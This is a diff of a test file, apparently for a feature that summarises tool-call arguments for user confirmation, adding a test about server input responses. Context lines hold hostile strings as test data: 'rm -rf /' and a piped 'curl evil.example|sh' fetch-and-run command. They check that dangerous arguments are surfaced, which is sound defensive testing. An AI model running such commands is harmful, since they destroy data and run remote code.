@@ -43,6 +43,15 @@ describe('a question', () => {
     expect(message).toMatch(/rm -rf \/|\|curl evil\.example\|sh/);
   });
 
+  it('V5: shows answers to questions of the server, which the caller sends with the call', () => {
+    const hub = new Hub();
+    hub.set('s', new ScriptedServer([{ name: 'pay', json: '{"name":"pay"}' }]));
+    const params = '{"name":"pay","arguments":{},"inputResponses":{"q":{"content":{"to":"M"}}}}';
+    const call = fakeCall(params).with({ target: hub.entry('tool', 's:pay')! });
+    const { arguments: shown } = summaryOf(call, 'policy.write is "confirm"', {});
+    expect(shown).toBe('{"inputResponses":{"q":{"content":{"to":"M"}}}}');
+  });
+
   it.each([
     ['a key that looks like a secret', { pass: 'rm -rf /' }, {}, '10 characters at `pass`'],
     [
